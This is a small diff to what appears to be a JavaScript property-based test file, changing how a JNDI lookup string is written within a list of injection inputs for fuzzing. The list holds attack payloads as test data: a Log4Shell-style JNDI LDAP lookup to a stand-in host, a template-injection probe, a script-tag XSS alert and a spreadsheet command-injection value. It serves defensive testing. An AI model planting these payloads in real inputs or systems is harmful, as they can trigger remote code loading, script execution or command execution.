@@ -16,7 +16,7 @@ const injections = fc.constantFrom(
   'constructor',
   'toString',
   'hasOwnProperty',
-  '${jndi:ldap://x.test/a}',
+  '$' + '{jndi:ldap://x.test/a}',
   '{{7*7}}',
   '<script>alert(1)</script>',
   '=cmd|1',
